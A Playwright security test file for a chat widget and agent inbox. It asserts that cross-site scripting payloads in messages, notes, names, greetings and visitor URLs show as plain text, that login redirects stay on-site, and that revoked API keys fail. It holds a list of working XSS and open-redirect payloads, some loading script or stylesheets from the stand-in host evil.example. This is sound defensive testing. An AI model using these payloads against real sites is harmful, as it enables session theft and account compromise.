// SECURITY.md, row A: script in every field is text everywhere. Dialogs, policy reports and third-party requests fail
// each test by `watch` (fixtures.ts).
import { addAgent, api, setUp } from '../accounts.ts';
import { expect, test } from '../fixtures.ts';
import { conversations, Inbox, stored } from '../inbox.ts';
import { Widget } from '../widget.ts';

/** No longer than a name may be (60 characters), so that they fit every field. */
const SHORT = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  '\'-alert(1)-\'" autofocus onfocus=alert(1) x="',
  'javascript:alert(1)',
];

const PAYLOADS = [
  ...SHORT,
  '<ScRiPt src=//evil.example/x.js></ScRiPt>',
  '</textarea><iframe srcdoc="<script>parent.alert(1)</script>">',
  '<a href="javascript:alert(1)">click me</a>',
  '[click me](javascript:alert(1)) ![x](https://evil.example/pixel.png)',
  'https://evil.example/"onmouseover="alert(1)',
  "https://evil.example/'><script>alert(1)</script>",
  'data:text/html,<script>alert(1)</script>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is a payload.
  '{{constructor.constructor("alert(1)")()}} ${alert(1)} <%= alert(1) %>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<style>*{display:none}</style><link rel=stylesheet href=//evil.example/x.css>',
  '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example/">',
  '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '__proto__ constructor prototype',
];

test('script in messages and notes is shown as text, in widget and inbox', async ({
  bellhop,
  owner,
  context,
  another,
}) => {
  const agent = await Inbox.of(context, bellhop, owner);
  const visitor = await Widget.opened(await (await another()).newPage(), bellhop.otherOriginUrl);
  await visitor.sent('Hello');
  await agent.open('Hello');
  for (const payload of PAYLOADS) await visitor.say(payload);
  await expect(visitor.own).toHaveText(['Hello', ...PAYLOADS]);
  await expect(visitor.state).toContainText(/Sent|Read/);
  await expect(agent.rows).toContainText(PAYLOADS.at(-1) ?? '');
  await expect(agent.messages.last()).toHaveText(PAYLOADS.at(-1) ?? '');
  for (const payload of PAYLOADS) {
    await agent.reply(payload);
    await expect(agent.messages.last()).toHaveText(payload);
  }
  await expect(visitor.messages.last()).toHaveText(PAYLOADS.at(-1) ?? '');
  for (const payload of SHORT) {
    await agent.note(payload);
    await expect(agent.notes.last()).toHaveText(payload);
  }

  const [row] = await conversations(bellhop, owner, 'mine');
  expect(await stored(bellhop, owner, row?.id ?? '')).toEqual(['Hello', ...PAYLOADS, ...PAYLOADS]);

  // From the log on the server as well.
  await visitor.page.reload();
  await agent.page.reload();
  await expect(visitor.messages.last()).toHaveText(PAYLOADS.at(-1) ?? '');
  await expect(agent.notes.last()).toHaveText(SHORT.at(-1) ?? '');
  const made = 'script, iframe, style, link, base, meta, img, math, form form, [onerror], [onload], [onfocus]';
  await expect(visitor.window.locator(`:is(${made})`)).toHaveCount(0);
  await expect(agent.page.locator('#app').locator(`:is(${made})`)).toHaveCount(0);
  for (const link of await visitor.window.locator('a').all()) {
    expect(await link.getAttribute('href')).toMatch(/^https:\/\/evil\.example\/[^"<>]*$/);
    expect(await link.getAttribute('rel')).toContain('noopener');
  }
});

test('script in names, greeting and the visitor’s page is shown as text, in widget and inbox', async ({
  bellhop,
  context,
  another,
}) => {
  const [workspace = '', name = '', colleague = '', greeting = '', renamed = ''] = SHORT;
  const owner = await setUp(
    bellhop,
    { name, email: 'olive@example.com', password: 'correct horse battery' },
    workspace,
  );
  const email = '"<script>alert(1)</script>"@example.com';
  const amir = await addAgent(bellhop, owner, { name: colleague, email, password: 'battery horse correct' });

  const agent = await Inbox.of(context, bellhop, owner);
  await Inbox.of(await another(), bellhop, amir);
  await expect(agent.page.locator('.team')).toContainText(colleague);
  await expect(agent.page.locator('.brand')).toContainText(workspace);

  // By the form, as an owner does it.
  const { page } = agent;
  await page.getByRole('link', { name: 'Settings' }).click();
  await page.getByLabel('Greeting').fill(`${greeting}\n${PAYLOADS.join(' ').slice(0, 200)}`);
  await page.getByRole('textbox', { name: 'Name', exact: true }).fill(renamed);
  await page.getByRole('button', { name: 'Save' }).click();
  await expect(page.getByText('Saved')).toBeVisible();
  await page.getByLabel('What is it for?').fill(colleague);
  await page.getByRole('button', { name: 'Make a key' }).click();
  await expect(page.getByText('Copy it now.')).toBeVisible();
  await expect(page.getByText(colleague, { exact: true })).not.toHaveCount(0);
  await page.getByRole('link', { name: 'Inbox' }).click();

  const hostile = `${bellhop.url}/demo?q=<script>alert(1)</script>#"><img src=x onerror=alert(1)>`;
  const visitor = await Widget.opened(await (await another()).newPage(), hostile);
  await expect(visitor.window).toContainText(renamed);
  await expect(visitor.messages.first()).toContainText(greeting);
  await visitor.sent('Hello');
  await agent.open('Hello');
  await agent.page.getByRole('button', { name: 'Details', exact: true }).click();
  await expect(agent.page.getByRole('complementary', { name: 'Details' })).toContainText('/demo?q=');
  await agent.page.getByRole('button', { name: 'Close details' }).click();
  await agent.page.getByRole('button', { name: /Assign/ }).click();
  await expect(agent.page.getByRole('option', { name: colleague })).toBeVisible();
  await agent.page.keyboard.press('Escape');
  await agent.reply('Good day');
  await expect(visitor.messages.last()).toHaveText('Good day');

  // A visitor who speaks the protocol by hand may claim any page; one that no browser loads by itself is refused.
  const answer = await visitor.page.evaluate(
    ([url, workspace]) =>
      new Promise<string>((done) => {
        const socket = new WebSocket(url);
        const say = (frame: object) => socket.send(JSON.stringify(frame));
        socket.onopen = () => say({ t: 'hello', v: 1, as: 'visitor', workspace, client: 'test' });
        socket.onmessage = ({ data }) => {
          const { t, code } = JSON.parse(String(data)) as { t: string; code?: string };
          if (t === 'welcome') {
            say({ t: 'start', id: 'a'.repeat(32), text: 'By hand', page: 'javascript:alert(document.domain)' });
          } else if (t === 'ack' || t === 'refused') done(`${t} ${code}`);
        };
        socket.onclose = () => done('closed');
      }),
    [`${bellhop.url.replace('http', 'ws')}/ws`, owner.workspaceId] as const,
  );
  expect(answer).toBe('refused page_bad');
});

test('the address in a link to the inbox cannot name another place to go after log-in', async ({
  page,
  bellhop,
  owner,
}) => {
  for (const next of [
    'https://evil.example/',
    '//evil.example/',
    '/\\evil.example',
    'javascript:alert(1)',
    '/inbox@evil.example',
  ]) {
    await page.goto(`${bellhop.url}/login?next=${encodeURIComponent(next)}`);
    await page.getByLabel('E-mail').fill(owner.email);
    await page.getByLabel('Password').fill(owner.password);
    await page.getByRole('button', { name: 'Log in' }).click();
    await expect(page).toHaveURL(/\/inbox(\/mine)?$/);
    expect(new URL(page.url()).origin).toBe(bellhop.url);
    await page.context().clearCookies();
  }
});

test('an API key of a removed name does nothing more, at once', async ({ bellhop, owner }) => {
  const made = await api(bellhop, 'POST', '/api/v1/keys', { as: owner, body: { name: 'Report' } });
  const { id, key } = (await made.json()) as { id: string; key: string };
  const ask = () =>
    fetch(`${bellhop.url}/api/v1/conversations?view=open`, { headers: { authorization: `Bearer ${key}` } });
  expect((await ask()).status).toBe(200);
  await api(bellhop, 'DELETE', `/api/v1/keys/${id}`, { as: owner });
  expect((await ask()).status).toBe(401);
});
